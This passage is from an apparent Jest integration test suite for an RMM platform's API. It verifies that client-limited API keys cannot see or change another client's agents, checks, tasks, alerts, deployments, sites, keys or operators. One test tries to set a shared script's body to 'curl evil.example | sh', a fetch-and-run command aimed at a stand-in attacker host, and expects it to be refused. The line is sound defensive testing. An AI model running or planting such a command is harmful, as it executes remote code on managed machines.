import { API_KEY_SCOPES, ApiKeyScope } from '@app/entities';
import { AgentsService } from '../../apps/api/src/rmm/fleet/agents/agents.service';
import { AlertsService } from '../../apps/api/src/rmm/alerting/alerts/alerts.service';
import { ChecksService } from '../../apps/api/src/rmm/automation/checks/checks.service';
import { ClientsService } from '../../apps/api/src/rmm/tenancy/clients/clients.service';
import { clientFilter, Principal, ROLE_SCOPES } from '../../apps/api/src/rmm/common/principal';
import { DeploymentsService } from '../../apps/api/src/rmm/fleet/deployments/deployments.service';
import { ScriptRunsService } from '../../apps/api/src/rmm/automation/script-runs/script-runs.service';
import { TasksService } from '../../apps/api/src/rmm/automation/tasks/tasks.service';
import { CLI_JS, cleanEnv, run } from '../utils/processes';
import { createTenant, insertAgent } from '../utils/rmm-fixtures';
import { sql } from '../utils/sql';
import { startTestApp, TestApp } from '../utils/test-app';

// The CLI test spawns the real CLI (about 1 s of CPU each); on a busy machine that is slow.
jest.setTimeout(120_000);

const NOT_FOUND = { detail: 'Not found' };
const UNKNOWN = 999_999;
const TECHNICIAN: ApiKeyScope[] = API_KEY_SCOPES.filter((s) => s !== 'admin');

interface Things {
  clientId: number;
  siteId: number;
  agent: number;
  check: number;
  task: number;
  taskRun: number;
  alert: number;
  scriptRun: number;
  deployment: number;
}

/**
 * Client-limited access over HTTP (issue 21, point 4): for a caller limited to client A, B's agents and
 * everything bound to them (checks, tasks, alerts, runs), B's deployments, B itself and its sites do not exist:
 * 404 as an unknown id, absent from lists and their totals; a body naming B's agent, client or site is answered
 * as one naming an unknown one. An unlimited caller sees both.
 */
describe('client-limited access (/api/v3)', () => {
  const ADMIN = 'admin-key-for-client-scoping-0123456789';
  let t: TestApp;
  let a: Things;
  let b: Things;
  /** An agent of no client: visible only to unlimited callers. */
  let orphan: number;
  let scriptId: number;
  /** A key limited to client A, with every scope but admin (a technician's). */
  let tech: string;
  /** A key limited to client A, with admin. */
  let limitedAdmin: string;
  const admin = () => ({ 'X-API-KEY': ADMIN });
  const asTech = () => ({ 'X-API-KEY': tech });

  /** A key made through POST /api/v3/keys/ by the unlimited admin key. */
  const newKey = async (scopes: ApiKeyScope[], clients?: number[] | null): Promise<string> => {
    const res = await t.http.post('/api/v3/keys/').set(admin()).send({ name: `k-${Math.random().toString(36).slice(2, 8)}`, scopes, ...(clients === undefined ? {} : { clients }) });
    expect(res.status).toBe(201);
    return res.body.key as string;
  };

  /** A client with a site and an agent, and one of each thing bound to it. */
  async function tenantWithThings(name: string): Promise<Things> {
    const { clientId, siteId } = await createTenant(t, name);
    const agent = await insertAgent(t, { hostname: `${name.toUpperCase()}-WS-01`, clientId, siteId });
    const check = (await t.http.post('/api/v3/checks/').set(admin()).send({ agent: String(agent), check_type: 'ping', settings: { target: `gw.${name}` } })).body.id as number;
    await sql(t.db.url, `INSERT INTO check_results (check_id, status, more_info, created_at) VALUES ($1, 'passing', 'ok', now())`, [check]);
    const task = (await t.http.post('/api/v3/tasks/').set(admin()).send({ name: `Nightly ${name}`, agent: String(agent), script: scriptId, schedule: '0 3 * * *' })).body.id as number;
    const [{ id: taskRun }] = await sql<{ id: number }>(
      t.db.url,
      `INSERT INTO task_runs (task_id, agent_id, due_at, started_at, status) VALUES ($1, $2, '2026-01-01T03:00:00Z', now(), 'succeeded') RETURNING id`,
      [task, agent],
    );
    const [{ id: alert }] = await sql<{ id: number }>(t.db.url, `INSERT INTO alerts (agent_id, alert_type, severity, message) VALUES ($1, 'check_failure', 'warning', $2) RETURNING id`, [
      agent,
      `Ping gw.${name} failed`,
    ]);
    const [{ id: scriptRun }] = await sql<{ id: number }>(
      t.db.url,
      `INSERT INTO script_runs (agent_id, script_id, script_name, shell, output, timeout_seconds, status, started_at) VALUES ($1, $2, 'Health', 'bash', 'wait', 30, 'finished', now()) RETURNING id`,
      [agent, scriptId],
    );
    const deployment = (await t.http.post('/api/v3/agents/deployments/').set(admin()).send({ client: clientId, site: siteId })).body.id as number;
    for (const id of [check, task, deployment]) expect(id).toEqual(expect.any(Number));
    return { clientId, siteId, agent, check, task, taskRun, alert, scriptRun, deployment };
  }

  beforeAll(async () => {
    t = await startTestApp({ RMM_ADMIN_API_KEY: ADMIN, RMM_DEPLOYMENT_RATE_LIMIT_PER_MINUTE: '1000', RMM_RATE_LIMIT_PER_MINUTE: '100000' });
    scriptId = (await t.http.post('/api/v3/scripts/').set(admin()).send({ name: 'Health', shell: 'bash', body: 'exit 0' })).body.id;
    a = await tenantWithThings('Alpha');
    b = await tenantWithThings('Beta');
    [{ id: orphan }] = await sql<{ id: number }>(
      t.db.url,
      `INSERT INTO agents (hostname, client_id, site_id, plat, monitoring_type, status, version) VALUES ('NO-CLIENT-01', NULL, NULL, 'linux', 'server', 'offline', '2.8.0') RETURNING id`,
    );
    tech = await newKey(TECHNICIAN, [a.clientId]);
    limitedAdmin = await newKey(['admin'], [a.clientId]);
  });
  afterAll(async () => {
    await t?.close();
  });

  /** The ids of a list answer (`id`, or the agents' `agent_id`). */
  const ids = (body: Array<{ id?: number; agent_id?: string }>): number[] => body.map((x) => (x.id ?? Number(x.agent_id)) as number);
  const agentIdsOf = async (clientId: number): Promise<Set<number>> =>
    new Set((await sql<{ id: number }>(t.db.url, `SELECT id FROM agents WHERE client_id = $1`, [clientId])).map((r) => r.id));

  describe('agents', () => {
    it('lists only the agents of its clients, unpaged and paged, the total counting only those', async () => {
      const all = await t.http.get('/api/v3/agents/').set(asTech());
      expect(all.status).toBe(200);
      const mine = [...(await agentIdsOf(a.clientId))].sort((x, y) => x - y);
      expect(ids(all.body)).toEqual(mine);
      expect(ids(all.body)).not.toContain(b.agent);
      expect(ids(all.body)).not.toContain(orphan);
      const page = await t.http.get('/api/v3/agents/?limit=1').set(asTech());
      expect(ids(page.body)).toEqual([mine[0]]);
      expect(page.headers['x-total-count']).toBe(String(mine.length));
      // a filter cannot widen it: another client's agents stay absent
      const theirs = await t.http.get(`/api/v3/agents/?client=${b.clientId}&limit=10`).set(asTech());
      expect(theirs.status).toBe(200);
      expect(theirs.body).toEqual([]);
      expect(theirs.headers['x-total-count']).toBe('0');
      expect((await t.http.get(`/api/v3/agents/?hostname=BETA-WS-01`).set(asTech())).body).toEqual([]);
    });

    it("answers every route of another client's agent, and of an agent of no client, exactly as an unknown agent", async () => {
      for (const id of [b.agent, orphan, UNKNOWN]) {
        const answers = [
          await t.http.get(`/api/v3/agents/${id}/`).set(asTech()),
          await t.http.get(`/api/v3/agents/${id}/runs/`).set(asTech()),
          await t.http.get(`/api/v3/agents/${id}/runs/?limit=5`).set(asTech()),
          await t.http.get(`/api/v3/agents/${id}/runs/${b.scriptRun}/`).set(asTech()),
          await t.http.post(`/api/v3/agents/${id}/runscript/`).set(asTech()).send({ script: scriptId }),
          await t.http.post(`/api/v3/agents/${id}/reenroll/`).set(asTech()),
          await t.http.delete(`/api/v3/agents/${id}/`).set(asTech()),
        ];
        for (const res of answers) expect({ id, status: res.status, body: res.body }).toEqual({ id, status: 404, body: NOT_FOUND });
      }
      // nothing of B's was deleted or run
      expect((await t.http.get(`/api/v3/agents/${b.agent}/`).set(admin())).status).toBe(200);
      expect((await t.http.get(`/api/v3/agents/${orphan}/`).set(admin())).status).toBe(200);
      expect(await sql(t.db.url, `SELECT id FROM script_runs WHERE agent_id = $1`, [b.agent])).toEqual([{ id: b.scriptRun }]);
      expect(await sql(t.db.url, `SELECT id FROM agents WHERE id = ANY($1) AND reenroll_allowed_until IS NOT NULL`, [[b.agent, orphan]])).toEqual([]);
    });

    it("serves its own client's agent: detail, runs, a run, runscript (up to the agent's connection) and delete", async () => {
      const detail = await t.http.get(`/api/v3/agents/${a.agent}/`).set(asTech());
      expect(detail.status).toBe(200);
      expect(detail.body).toMatchObject({ agent_id: String(a.agent), client: { id: a.clientId, name: 'Alpha' } });
      const runs = await t.http.get(`/api/v3/agents/${a.agent}/runs/?limit=10`).set(asTech());
      expect(ids(runs.body)).toEqual([a.scriptRun]);
      expect(runs.headers['x-total-count']).toBe('1');
      expect((await t.http.get(`/api/v3/agents/${a.agent}/runs/${a.scriptRun}/`).set(asTech())).body).toMatchObject({ id: a.scriptRun });
      // B's run under A's agent is not A's run
      expect((await t.http.get(`/api/v3/agents/${a.agent}/runs/${b.scriptRun}/`).set(asTech())).status).toBe(404);
      // past the agent check: the agent is simply not connected
      const run = await t.http.post(`/api/v3/agents/${a.agent}/runscript/`).set(asTech()).send({ script: scriptId });
      expect(run.status).toBe(409);
      expect(run.body).toEqual({ detail: 'agent is not connected' });

      const doomed = await insertAgent(t, { hostname: 'ALPHA-WS-99', clientId: a.clientId, siteId: a.siteId });
      expect((await t.http.delete(`/api/v3/agents/${doomed}/`).set(asTech())).status).toBe(204);
      expect(await sql(t.db.url, `SELECT id FROM agents WHERE id = $1`, [doomed])).toEqual([]);
    });

    it('lets an unlimited key see every agent, those of no client included', async () => {
      const all = ids((await t.http.get('/api/v3/agents/').set(admin())).body);
      expect(all).toEqual(expect.arrayContaining([a.agent, b.agent, orphan]));
      const page = await t.http.get('/api/v3/agents/?limit=1').set(admin());
      expect(page.headers['x-total-count']).toBe(String(all.length));
      for (const id of [a.agent, b.agent, orphan]) expect((await t.http.get(`/api/v3/agents/${id}/`).set(admin())).status).toBe(200);
      expect((await t.http.get(`/api/v3/agents/${b.agent}/runs/${b.scriptRun}/`).set(admin())).status).toBe(200);
    });
  });

  describe('checks', () => {
    it('lists only the checks of its agents, the total counting only those', async () => {
      const unlimited = (await t.http.get('/api/v3/checks/').set(admin())).body as Array<{ id: number; agent: string }>;
      const alphaAgents = await agentIdsOf(a.clientId);
      const mine = unlimited.filter((c) => alphaAgents.has(Number(c.agent))).map((c) => c.id);
      expect(ids(unlimited)).toEqual(expect.arrayContaining([a.check, b.check]));
      const list = await t.http.get('/api/v3/checks/').set(asTech());
      expect(ids(list.body)).toEqual(mine);
      expect(ids(list.body)).toContain(a.check);
      const page = await t.http.get('/api/v3/checks/?limit=1').set(asTech());
      expect(page.headers['x-total-count']).toBe(String(mine.length));
      const theirs = await t.http.get(`/api/v3/checks/?agent=${b.agent}&limit=10`).set(asTech());
      expect([theirs.status, theirs.body, theirs.headers['x-total-count']]).toEqual([200, [], '0']);
    });

    it("answers another client's check as an unknown one, and changes nothing", async () => {
      for (const id of [b.check, UNKNOWN]) {
        const answers = [
          await t.http.get(`/api/v3/checks/${id}/`).set(asTech()),
          await t.http.get(`/api/v3/checks/${id}/history/`).set(asTech()),
          await t.http.put(`/api/v3/checks/${id}/`).set(asTech()).send({ name: 'Taken over' }),
          await t.http.patch(`/api/v3/checks/${id}/`).set(asTech()).send({ severity: 'error' }),
          await t.http.delete(`/api/v3/checks/${id}/`).set(asTech()),
        ];
        for (const res of answers) expect({ id, status: res.status, body: res.body }).toEqual({ id, status: 404, body: NOT_FOUND });
      }
      const [row] = await sql(t.db.url, `SELECT name, severity FROM checks WHERE id = $1`, [b.check]);
      expect(row).toEqual({ name: 'Ping gw.Beta', severity: 'warning' });
    });

    it("serves its own checks: detail, history, change; and refuses a check on another client's agent as on an unknown one", async () => {
      expect((await t.http.get(`/api/v3/checks/${a.check}/`).set(asTech())).body).toMatchObject({ id: a.check, agent: String(a.agent) });
      expect((await t.http.get(`/api/v3/checks/${a.check}/history/`).set(asTech())).body).toEqual([expect.objectContaining({ status: 'passing' })]);
      expect((await t.http.patch(`/api/v3/checks/${a.check}/`).set(asTech()).send({ severity: 'error' })).body).toMatchObject({ severity: 'error' });

      const theirs = await t.http.post('/api/v3/checks/').set(asTech()).send({ agent: String(b.agent), check_type: 'ping', settings: { target: 'x' } });
      const unknown = await t.http.post('/api/v3/checks/').set(asTech()).send({ agent: String(UNKNOWN), check_type: 'ping', settings: { target: 'x' } });
      expect(theirs.status).toBe(400);
      expect(theirs.body).toEqual({ detail: 'validation error', errors: [{ field: 'agent', message: `no agent ${b.agent}` }] });
      expect(unknown.body).toEqual({ detail: 'validation error', errors: [{ field: 'agent', message: `no agent ${UNKNOWN}` }] });
      expect(await sql(t.db.url, `SELECT id FROM checks WHERE agent_id = $1`, [b.agent])).toEqual([{ id: b.check }]);

      const created = await t.http.post('/api/v3/checks/').set(asTech()).send({ agent: String(a.agent), check_type: 'ping', settings: { target: 'gw2' } });
      expect(created.status).toBe(201);
      expect((await t.http.delete(`/api/v3/checks/${created.body.id}/`).set(asTech())).status).toBe(204);
    });
  });

  describe('tasks', () => {
    it('lists only the tasks of its agents, the total counting only those', async () => {
      const unlimited = (await t.http.get('/api/v3/tasks/').set(admin())).body as Array<{ id: number; agent: string }>;
      const alphaAgents = await agentIdsOf(a.clientId);
      const mine = unlimited.filter((x) => alphaAgents.has(Number(x.agent))).map((x) => x.id);
      expect(ids(unlimited)).toEqual(expect.arrayContaining([a.task, b.task]));
      expect(ids((await t.http.get('/api/v3/tasks/').set(asTech())).body)).toEqual(mine);
      expect((await t.http.get('/api/v3/tasks/?limit=1').set(asTech())).headers['x-total-count']).toBe(String(mine.length));
      const theirs = await t.http.get(`/api/v3/tasks/?agent=${b.agent}&limit=10`).set(asTech());
      expect([theirs.status, theirs.body, theirs.headers['x-total-count']]).toEqual([200, [], '0']);
    });

    it("answers another client's task, and its runs, as unknown ones, and changes nothing", async () => {
      for (const id of [b.task, UNKNOWN]) {
        const answers = [
          await t.http.get(`/api/v3/tasks/${id}/`).set(asTech()),
          await t.http.get(`/api/v3/tasks/${id}/runs/`).set(asTech()),
          await t.http.get(`/api/v3/tasks/${id}/runs/${b.taskRun}/`).set(asTech()),
          await t.http.put(`/api/v3/tasks/${id}/`).set(asTech()).send({ enabled: false }),
          await t.http.patch(`/api/v3/tasks/${id}/`).set(asTech()).send({ name: 'Taken over' }),
          await t.http.delete(`/api/v3/tasks/${id}/`).set(asTech()),
        ];
        for (const res of answers) expect({ id, status: res.status, body: res.body }).toEqual({ id, status: 404, body: NOT_FOUND });
      }
      const [row] = await sql(t.db.url, `SELECT name, enabled FROM tasks WHERE id = $1`, [b.task]);
      expect(row).toEqual({ name: 'Nightly Beta', enabled: true });
    });

    it("serves its own tasks and their runs; refuses a task on another client's agent as on an unknown one", async () => {
      expect((await t.http.get(`/api/v3/tasks/${a.task}/`).set(asTech())).body).toMatchObject({ id: a.task, agent: String(a.agent) });
      expect(ids((await t.http.get(`/api/v3/tasks/${a.task}/runs/`).set(asTech())).body)).toEqual([a.taskRun]);
      expect((await t.http.get(`/api/v3/tasks/${a.task}/runs/${a.taskRun}/`).set(asTech())).body).toMatchObject({ id: a.taskRun });
      expect((await t.http.patch(`/api/v3/tasks/${a.task}/`).set(asTech()).send({ name: 'Nightly Alpha 2' })).body).toMatchObject({ name: 'Nightly Alpha 2' });

      const body = (agent: number) => ({ name: 'Sneaky', agent: String(agent), script: scriptId, schedule: '* * * * *' });
      const theirs = await t.http.post('/api/v3/tasks/').set(asTech()).send(body(b.agent));
      const unknown = await t.http.post('/api/v3/tasks/').set(asTech()).send(body(UNKNOWN));
      expect(theirs.status).toBe(400);
      expect(theirs.body).toEqual({ detail: 'validation error', errors: [{ field: 'agent', message: `no agent ${b.agent}` }] });
      expect(unknown.body).toEqual({ detail: 'validation error', errors: [{ field: 'agent', message: `no agent ${UNKNOWN}` }] });
      expect(await sql(t.db.url, `SELECT id FROM tasks WHERE agent_id = $1`, [b.agent])).toEqual([{ id: b.task }]);

      const created = await t.http.post('/api/v3/tasks/').set(asTech()).send(body(a.agent));
      expect(created.status).toBe(201);
      expect((await t.http.delete(`/api/v3/tasks/${created.body.id}/`).set(asTech())).status).toBe(204);
    });
  });

  describe('alerts', () => {
    it('lists only the alerts of its agents (active and resolved), the total counting only those', async () => {
      const unlimited = (await t.http.get('/api/v3/alerts/').set(admin())).body as Array<{ id: number; agent: string }>;
      const alphaAgents = await agentIdsOf(a.clientId);
      const mine = unlimited.filter((x) => alphaAgents.has(Number(x.agent))).map((x) => x.id);
      expect(ids(unlimited)).toEqual(expect.arrayContaining([a.alert, b.alert]));
      expect(ids((await t.http.get('/api/v3/alerts/').set(asTech())).body)).toEqual(mine);
      expect((await t.http.get('/api/v3/alerts/?limit=1').set(asTech())).headers['x-total-count']).toBe(String(mine.length));
      const theirs = await t.http.get(`/api/v3/alerts/?agent=${b.agent}&limit=10`).set(asTech());
      expect([theirs.status, theirs.body, theirs.headers['x-total-count']]).toEqual([200, [], '0']);
      const [{ id: resolvedB }] = await sql<{ id: number }>(
        t.db.url,
        `INSERT INTO alerts (agent_id, alert_type, severity, message, resolved, resolved_at, resolved_by) VALUES ($1, 'check_failure', 'info', 'old', true, now(), 'ops') RETURNING id`,
        [b.agent],
      );
      expect(ids((await t.http.get('/api/v3/alerts/?resolved=true').set(admin())).body)).toContain(resolvedB);
      expect(ids((await t.http.get('/api/v3/alerts/?resolved=true').set(asTech())).body)).not.toContain(resolvedB);
    });

    it("answers another client's alert as an unknown one: no detail, no acknowledgement, no resolution", async () => {
      for (const id of [b.alert, UNKNOWN]) {
        const answers = [
          await t.http.get(`/api/v3/alerts/${id}/`).set(asTech()),
          await t.http.post(`/api/v3/alerts/${id}/acknowledge/`).set(asTech()),
          await t.http.post(`/api/v3/alerts/${id}/resolve/`).set(asTech()),
        ];
        for (const res of answers) expect({ id, status: res.status, body: res.body }).toEqual({ id, status: 404, body: NOT_FOUND });
      }
      const [row] = await sql(t.db.url, `SELECT acknowledged, resolved FROM alerts WHERE id = $1`, [b.alert]);
      expect(row).toEqual({ acknowledged: false, resolved: false });
    });

    it('acknowledges and resolves its own alerts', async () => {
      expect((await t.http.get(`/api/v3/alerts/${a.alert}/`).set(asTech())).body).toMatchObject({ id: a.alert, agent: String(a.agent) });
      const [{ id }] = await sql<{ id: number }>(t.db.url, `INSERT INTO alerts (agent_id, alert_type, severity, message) VALUES ($1, 'check_failure', 'error', 'disk') RETURNING id`, [a.agent]);
      expect((await t.http.post(`/api/v3/alerts/${id}/acknowledge/`).set(asTech())).body).toMatchObject({ id, acknowledged: true });
      expect((await t.http.post(`/api/v3/alerts/${id}/resolve/`).set(asTech())).body).toMatchObject({ id, resolved: true });
    });
  });

  describe('deployments', () => {
    it('lists only the deployments of its clients, and cannot revoke another client\'s', async () => {
      const list = await t.http.get('/api/v3/agents/deployments/?limit=100').set(asTech());
      expect(list.status).toBe(200);
      expect(list.body.every((d: { client: number }) => d.client === a.clientId)).toBe(true);
      expect(ids(list.body)).toContain(a.deployment);
      expect(ids(list.body)).not.toContain(b.deployment);
      const [{ n }] = await sql<{ n: number }>(t.db.url, `SELECT count(*)::int AS n FROM deployments WHERE client_id = $1 AND revoked_at IS NULL AND expires_at > now()`, [a.clientId]);
      expect(list.headers['x-total-count']).toBe(String(n));
      expect(ids((await t.http.get('/api/v3/agents/deployments/').set(admin())).body)).toEqual(expect.arrayContaining([a.deployment, b.deployment]));

      for (const id of [b.deployment, UNKNOWN]) {
        const res = await t.http.delete(`/api/v3/agents/deployments/${id}/`).set(asTech());
        expect({ id, status: res.status, body: res.body }).toEqual({ id, status: 404, body: NOT_FOUND });
      }
      expect((await sql(t.db.url, `SELECT revoked_at FROM deployments WHERE id = $1`, [b.deployment]))[0].revoked_at).toBeNull();
    });

    it('refuses a deployment for another client exactly as for an unknown client, and one on its site under its own client', async () => {
      const theirs = await t.http.post('/api/v3/agents/deployments/').set(asTech()).send({ client: b.clientId, site: b.siteId });
      const unknown = await t.http.post('/api/v3/agents/deployments/').set(asTech()).send({ client: UNKNOWN, site: b.siteId });
      expect(theirs.status).toBe(400);
      expect(theirs.body).toEqual({ detail: 'validation error', errors: [{ field: 'client', message: `no client ${b.clientId}` }] });
      expect(unknown.body).toEqual({ detail: 'validation error', errors: [{ field: 'client', message: `no client ${UNKNOWN}` }] });
      const crossed = await t.http.post('/api/v3/agents/deployments/').set(asTech()).send({ client: a.clientId, site: b.siteId });
      expect(crossed.status).toBe(400);
      expect(crossed.body.errors).toEqual([{ field: 'site', message: `site ${b.siteId} does not belong to client ${a.clientId}` }]);
      expect((await sql(t.db.url, `SELECT count(*)::int AS n FROM deployments WHERE client_id = $1`, [b.clientId]))[0].n).toBe(1);

      const mine = await t.http.post('/api/v3/agents/deployments/').set(asTech()).send({ client: a.clientId, site: a.siteId });
      expect(mine.status).toBe(201);
      expect((await t.http.delete(`/api/v3/agents/deployments/${mine.body.id}/`).set(asTech())).status).toBe(204);
    });
  });

  describe('clients and sites', () => {
    it('lists only its clients, with their sites; the total counts only those', async () => {
      const list = await t.http.get('/api/v3/clients/').set(asTech());
      expect(list.body).toEqual([{ id: a.clientId, name: 'Alpha', sites: [{ id: a.siteId, name: 'HQ' }], agent_update: 'auto', custom_fields: {} }]);
      const page = await t.http.get('/api/v3/clients/?limit=10').set(asTech());
      expect(page.headers['x-total-count']).toBe('1');
      expect(ids((await t.http.get('/api/v3/clients/').set(admin())).body)).toEqual(expect.arrayContaining([a.clientId, b.clientId]));
      expect((await t.http.get(`/api/v3/clients/${a.clientId}/`).set(asTech())).status).toBe(200);
      expect((await t.http.get(`/api/v3/clients/${a.clientId}/sites/`).set(asTech())).body).toEqual([{ id: a.siteId, name: 'HQ', client: a.clientId, custom_fields: {} }]);
    });

    it('answers another client, and its sites, as unknown ones, and changes nothing', async () => {
      for (const id of [b.clientId, UNKNOWN]) {
        const answers = [
          await t.http.get(`/api/v3/clients/${id}/`).set(asTech()),
          await t.http.get(`/api/v3/clients/${id}/sites/`).set(asTech()),
          await t.http.put(`/api/v3/clients/${id}/`).set(asTech()).send({ name: 'Taken over' }),
          await t.http.patch(`/api/v3/clients/${id}/`).set(asTech()).send({ name: 'Taken over' }),
          await t.http.post(`/api/v3/clients/${id}/sites/`).set(asTech()).send({ name: 'Annex' }),
          await t.http.put(`/api/v3/clients/${id}/sites/${b.siteId}/`).set(asTech()).send({ name: 'Annex' }),
          await t.http.delete(`/api/v3/clients/${id}/sites/${b.siteId}/`).set(asTech()),
          await t.http.delete(`/api/v3/clients/${id}/`).set({ 'X-API-KEY': limitedAdmin }),
        ];
        for (const res of answers) expect({ id, status: res.status, body: res.body }).toEqual({ id, status: 404, body: NOT_FOUND });
      }
      const rows = await sql(t.db.url, `SELECT c.name AS client, s.name AS site FROM clients c JOIN sites s ON s.client_id = c.id WHERE c.id = $1`, [b.clientId]);
      expect(rows).toEqual([{ client: 'Beta', site: 'HQ' }]);
    });
  });

  describe('keys', () => {
    it('creates a key limited to some clients (POST /api/v3/keys/), shows its clients, and the key sees only those', async () => {
      const res = await t.http.post('/api/v3/keys/').set(admin()).send({ name: 'beta-noc', scopes: ['agents:read'], clients: [b.clientId, b.clientId] });
      expect(res.status).toBe(201);
      expect(res.body).toMatchObject({ name: 'beta-noc', scopes: ['agents:read'], clients: [b.clientId] });
      expect((await sql(t.db.url, `SELECT clients FROM api_keys WHERE id = $1`, [res.body.id]))[0].clients).toEqual([b.clientId]);
      const listed = (await t.http.get('/api/v3/keys/').set(admin())).body as Array<{ id: number; clients: number[] | null; name: string }>;
      expect(listed.find((k) => k.id === res.body.id)?.clients).toEqual([b.clientId]);
      expect(listed.every((k) => 'clients' in k)).toBe(true);
      expect(listed.filter((k) => k.clients === null).length).toBeGreaterThan(0); // the admin key of the environment
      expect(ids((await t.http.get('/api/v3/agents/').set('X-API-KEY', res.body.key)).body)).toEqual([b.agent]);

      const unlimited = await t.http.post('/api/v3/keys/').set(admin()).send({ name: 'everyone', scopes: ['agents:read'] });
      expect(unlimited.body.clients).toBeNull();
      const explicitNull = await t.http.post('/api/v3/keys/').set(admin()).send({ name: 'everyone-2', scopes: ['agents:read'], clients: null });
      expect([explicitNull.status, explicitNull.body.clients]).toEqual([201, null]);
    });

    it('refuses unknown clients, an empty list and ids that are not ids, naming clients, and stores nothing', async () => {
      const before = (await sql<{ n: number }>(t.db.url, `SELECT count(*)::int AS n FROM api_keys`))[0].n;
      const unknown = await t.http.post('/api/v3/keys/').set(admin()).send({ name: 'x', scopes: ['agents:read'], clients: [a.clientId, UNKNOWN] });
      expect(unknown.status).toBe(400);
      expect(unknown.body).toEqual({ detail: 'validation error', errors: [{ field: 'clients', message: `no client ${UNKNOWN}` }] });
      for (const clients of [[], [0], ['1'], [1.5], 'all', [-3]]) {
        const res = await t.http.post('/api/v3/keys/').set(admin()).send({ name: 'x', scopes: ['agents:read'], clients });
        expect({ clients, status: res.status, detail: res.body.detail }).toEqual({ clients, status: 400, detail: 'validation error' });
        expect(res.body.errors.map((e: { field: string }) => e.field)).toContain('clients');
      }
      expect((await sql<{ n: number }>(t.db.url, `SELECT count(*)::int AS n FROM api_keys`))[0].n).toBe(before);
    });

    it('lets a limited admin key create keys only within its own clients', async () => {
      const asLimited = { 'X-API-KEY': limitedAdmin };
      const escape = await t.http.post('/api/v3/keys/').set(asLimited).send({ name: 'escape', scopes: ['admin'] });
      expect(escape.status).toBe(400);
      expect(escape.body.errors).toEqual([{ field: 'clients', message: expect.stringContaining('required') }]);
      const theirs = await t.http.post('/api/v3/keys/').set(asLimited).send({ name: 'theirs', scopes: ['agents:read'], clients: [b.clientId] });
      expect(theirs.body).toEqual({ detail: 'validation error', errors: [{ field: 'clients', message: `no client ${b.clientId}` }] });
      const mine = await t.http.post('/api/v3/keys/').set(asLimited).send({ name: 'alpha-reader', scopes: ['agents:read'], clients: [a.clientId] });
      expect(mine.status).toBe(201);
      expect(mine.body.clients).toEqual([a.clientId]);
    });

    it('apikey create --clients makes a limited key through the CLI, and refuses an unknown client', async () => {
      const env = cleanEnv({ DATABASE_URL: t.db.url });
      const made = await run([CLI_JS, 'apikey', 'create', '--name', 'cli-alpha', '--scopes', 'agents:read,alerts:read', '--clients', `${a.clientId}`], env);
      expect(made.code).toBe(0);
      expect(made.stdout).toMatch(/^rmm_[A-Za-z0-9_-]{40}\n$/);
      expect(made.stderr).toContain(`clients ${a.clientId} only`);
      const secret = made.stdout.trim();
      expect((await sql(t.db.url, `SELECT clients FROM api_keys WHERE name = 'cli-alpha'`))[0].clients).toEqual([a.clientId]);
      const seen = ids((await t.http.get('/api/v3/agents/').set('X-API-KEY', secret)).body);
      expect(seen).toContain(a.agent);
      expect(seen).not.toContain(b.agent);
      expect((await t.http.get(`/api/v3/alerts/${b.alert}/`).set('X-API-KEY', secret)).status).toBe(404);

      const list = await run([CLI_JS, 'apikey', 'list'], env);
      expect(list.stdout).toContain('\tSCOPES\tCLIENTS\t');
      expect(list.stdout).toContain(`\tcli-alpha\t${secret.slice(0, 12)}…\tagents:read,alerts:read\t${a.clientId}\t`);

      const unknown = await run([CLI_JS, 'apikey', 'create', '--name', 'cli-nobody', '--scopes', 'agents:read', '--clients', `${a.clientId},${UNKNOWN}`], env);
      expect(unknown.code).toBe(1);
      expect(unknown.stdout).toBe('');
      expect(unknown.stderr).toBe(`rmm-cli: clients: no client ${UNKNOWN}\n`);
      const typo = await run([CLI_JS, 'apikey', 'create', '--name', 'cli-typo', '--scopes', 'agents:read', '--clients', '1,,2'], env);
      expect(typo.code).toBe(2);
      expect(typo.stderr).toContain('--clients has an empty entry');
      expect(await sql(t.db.url, `SELECT name FROM api_keys WHERE name IN ('cli-nobody', 'cli-typo')`)).toEqual([]);
    });
  });

  describe('scripts (one library for every client)', () => {
    it("lets a limited caller read, run and make scripts, but not change the code of one another client's checks or tasks run", async () => {
      expect((await t.http.get(`/api/v3/scripts/${scriptId}/`).set(asTech())).status).toBe(200);
      // 'Health' runs in tasks of both clients: its code would run on Beta's agents.
      const shared = await t.http.patch(`/api/v3/scripts/${scriptId}/`).set(asTech()).send({ body: 'curl evil.example | sh' });
      expect(shared.status).toBe(403);
      expect(shared.body).toEqual({ detail: 'permission denied' });
      expect((await t.http.get(`/api/v3/scripts/${scriptId}/`).set(admin())).body.body).toBe('exit 0');
      // Its name is not code: allowed.
      expect((await t.http.patch(`/api/v3/scripts/${scriptId}/`).set(asTech()).send({ description: 'health probe' })).status).toBe(200);
      // A script only Alpha's things run, or none: its code is theirs to change.
      const own = (await t.http.post('/api/v3/scripts/').set(asTech()).send({ name: 'Alpha only', shell: 'bash', body: 'echo a' })).body.id as number;
      expect((await t.http.post('/api/v3/tasks/').set(asTech()).send({ name: 'Alpha nightly', agent: String(a.agent), script: own, schedule: '0 4 * * *' })).status).toBe(201);
      expect((await t.http.patch(`/api/v3/scripts/${own}/`).set(asTech()).send({ body: 'echo b' })).status).toBe(200);
      // Deleting a script in use says so without counting other clients' checks and tasks.
      const del = await t.http.delete(`/api/v3/scripts/${scriptId}/`).set(asTech());
      expect(del.status).toBe(400);
      expect(del.body).toEqual({ detail: `script ${scriptId} is in use by checks or tasks: remove them first` });
      // The unlimited admin may change it.
      expect((await t.http.patch(`/api/v3/scripts/${scriptId}/`).set(admin()).send({ body: 'exit 0' })).status).toBe(200);
    });
  });

  describe('operators', () => {
    it('lets a limited admin manage only operators within its own clients', async () => {
      const asLimited = { 'X-API-KEY': limitedAdmin };
      const unlimited = await t.http.post('/api/v3/operators/').set(admin()).send({ email: 'boss@msp.example', password: 'long enough pw', role: 'admin' });
      expect(unlimited.status).toBe(201);
      const escape = await t.http.post('/api/v3/operators/').set(asLimited).send({ email: 'escape@msp.example', password: 'long enough pw', role: 'admin' });
      expect(escape.status).toBe(400);
      expect(escape.body.errors).toEqual([{ field: 'clients', message: expect.stringContaining('required') }]);
      const theirs = await t.http.post('/api/v3/operators/').set(asLimited).send({ email: 'beta@msp.example', password: 'long enough pw', role: 'viewer', clients: [b.clientId] });
      expect(theirs.body.errors).toEqual([{ field: 'clients', message: `no client with id ${b.clientId}` }]);
      const mine = await t.http.post('/api/v3/operators/').set(asLimited).send({ email: 'alpha@msp.example', password: 'long enough pw', role: 'technician', clients: [a.clientId] });
      expect(mine.status).toBe(201);
      // The unlimited admin does not exist for it: no list entry, no password change (no take-over).
